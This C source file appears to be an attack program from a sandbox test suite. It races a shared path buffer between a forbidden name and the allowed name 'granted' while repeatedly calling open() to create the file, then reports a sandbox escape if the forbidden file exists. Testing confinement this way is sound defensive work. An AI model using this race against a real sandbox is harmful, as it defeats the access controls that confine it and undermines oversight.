/* Creates a file of a name that may not be made, while another name is decided. Arguments: the
 * names. */
#include "attack.h"
#include <pthread.h>

static char path[64];
static const char *wanted;
static volatile int over;

static void *swap_bytes(void *none) {
    for (; !over;) {
        strcpy(path, wanted);
        for (volatile int i = 0; i < 300; i++);
        strcpy(path, "granted");
        for (volatile int i = 0; i < 300; i++);
    }
    return none;
}

int main(int argc, char **argv) {
    for (int n = 1; n < argc; n++) {
        pthread_t thread;
        wanted = argv[n];
        over = 0;
        pthread_create(&thread, NULL, swap_bytes, NULL);
        for (double end = now() + 1.5; now() < end;) {
            int fd = open(path, O_CREAT | O_WRONLY, 0600);
            if (fd < 0) continue;
            if (write(fd, "planted\n", 8) != 8) return 3;
            close(fd);
            unlink("granted");
        }
        over = 1;
        pthread_join(thread, NULL);
        if (access(wanted, F_OK) == 0) escaped(wanted);
    }
    return 0;
}
